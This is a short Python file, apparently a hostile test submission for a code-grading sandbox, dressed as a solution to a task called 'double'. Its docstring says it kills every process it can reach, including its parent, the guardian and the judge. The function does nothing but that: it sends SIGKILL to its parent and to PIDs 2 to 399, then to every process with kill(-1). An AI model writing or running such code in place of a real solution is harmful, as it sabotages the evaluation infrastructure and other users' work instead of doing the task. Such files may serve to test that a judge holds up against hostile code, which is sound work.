"""Kills every process that it may reach: its parents, the guardian, the judge, its neighbours."""

# %% double
import os
import signal


def double(x):
    for process in [os.getppid(), *range(2, 400)]:
        if process != os.getpid():
            try:
                os.kill(process, signal.SIGKILL)
            except OSError:
                continue
    os.kill(-1, signal.SIGKILL)
